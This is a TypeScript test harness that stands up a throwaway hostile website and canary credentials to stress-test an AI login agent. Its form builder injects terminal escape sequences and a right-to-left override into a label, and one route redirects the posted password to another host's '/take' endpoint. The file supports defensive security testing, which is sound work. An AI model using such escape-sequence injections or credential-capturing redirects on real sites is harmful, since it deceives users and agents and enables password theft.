/** A stack that runs, and what an attack on it uses: agents, credentials and keys of its own, at a site of its own, which are gone afterwards. */
import { randomBytes, randomUUID } from 'node:crypto';
import type { Client } from '@temporalio/client';
import { type AgentAuth, AgentAuthError, type AgentAuthInvocation, type CredentialCreate } from '../../client/index.js';
import { callerOf } from '../../client/internal.js';
import { type HostileSite, loginForm, serveHostile, WELCOME } from '../sites/hostile/serve.js';

/** Why an attack could not be tried. */
export class NotTried extends Error {}

/** What an attack has come to: what was found; null where it held. */
export type Found = string | null;
export interface Attack {
  readonly threat: string;
  readonly attack: (target: Target) => Promise<Found>;
}

export interface Target {
  readonly auth: AgentAuth;
  readonly temporal: Client;
  readonly taskQueue: string;
  readonly httpUrl: string | null;
  readonly site: HostileSite;
  /** Texts that stand nowhere else: what a person gives, and what the site writes. */
  readonly canaries: { readonly email: string; readonly password: string; readonly label: string };
  /**
   * A login that waits for the password, at the site.
   * @param path of its form
   */
  login(path?: string): Promise<AgentAuthInvocation>;
  /** A login with a credential of its own, once it waits for a person or has ended. */
  loginWith(credential: Pick<CredentialCreate, 'values' | 'sso_provider'>, path?: string): Promise<AgentAuthInvocation>;
  /** Calls back when all is over. */
  undo(work: () => Promise<unknown>): void;
  clean(): Promise<void>;
}

const ESC = String.fromCharCode(0x1b);

const form = (label: string, action: string): string => `<h1>Sign in</h1><form method="post" action="${action}">
  <label for="p">${label} ${ESC}[2J${ESC}]0;root\u0007 \u202edrow</label>
  <input type="hidden" name="email"><input id="p" name="password" type="password"><button>Sign in</button></form>`;

export async function aimAt(auth: AgentAuth): Promise<Target> {
  const { temporal, task_queue: taskQueue, httpUrl: findServer } = callerOf(auth);
  const httpUrl = await findServer();
  const name = `attacks-${randomUUID()}`;
  const unique = (): string => `canary${randomBytes(9).toString('hex')}`;
  const canaries = { email: `${unique()}@example.com`, password: unique(), label: `Password ${unique()}` };
  const site = await serveHostile(({ other }) => ({
    '/': form(canaries.label, '/login'),
    'POST /login': WELCOME,
    '/moves': form(canaries.label, '/moved'),
    'POST /moved': { status: 307, location: `${other}/take` },
    '/refuses': loginForm().replace('/login', '/refused'),
    'POST /refused': `<p role="alert">Wrong e-mail or password.</p>${loginForm().replace('/login', '/refused')}`,
  }));
  const undone: (() => Promise<unknown>)[] = [];
  let logins = 0;
  let isStored = false;
  const { agents, credentials, profiles } = auth;
  const startWith = async (credential_name: string, path: string): Promise<string> => {
    logins += 1;
    const profile_name = `${name}-${logins}`;
    const login_url = `http://${site.host}${path}`;
    const agent = await agents.auth.create({ domain: site.host, profile_name, credential_name, login_url });
    undone.push(
      () => profiles.delete(profile_name).catch(() => undefined),
      () => agents.auth.delete(agent.id),
    );
    return (await agents.auth.invocations.create({ auth_agent_id: agent.id })).invocation_id;
  };
  const untilItWaits = async (invocation_id: string): Promise<AgentAuthInvocation> => {
    for await (const state of agents.auth.invocations.follow(invocation_id))
      if (state.step === 'awaiting_input' || state.status !== 'IN_PROGRESS') return state;
    throw new NotTried('the login did not begin');
  };
  return {
    auth,
    temporal,
    taskQueue,
    httpUrl,
    site,
    canaries,
    async login(path = '/') {
      if (!isStored) {
        isStored = true;
        await credentials.create({ name, domain: site.host, values: { email: canaries.email } });
        undone.push(() => credentials.delete(name));
      }
      const state = await untilItWaits(await startWith(name, path));
      if (state.status === 'IN_PROGRESS') return state;
      throw new NotTried(`the worker does not reach a site of this machine (${state.error_code})`);
    },
    async loginWith(credential, path = '/') {
      const own = `attacks-${randomUUID()}`;
      await credentials.create({ ...credential, name: own, domain: site.host });
      undone.push(() => credentials.delete(own));
      return untilItWaits(await startWith(own, path));
    },
    undo: (work) => void undone.push(work),
    async clean() {
      for (const work of undone.toReversed())
        await work().catch((error) => {
          if (!(error instanceof AgentAuthError)) throw error;
          // An attack may have revoked its key itself.
          if (error.code === 'key_not_found') return;
          console.error(`Could not be removed (${error.code}): look for "${name}".`);
        });
      await site.stop();
    },
  };
}
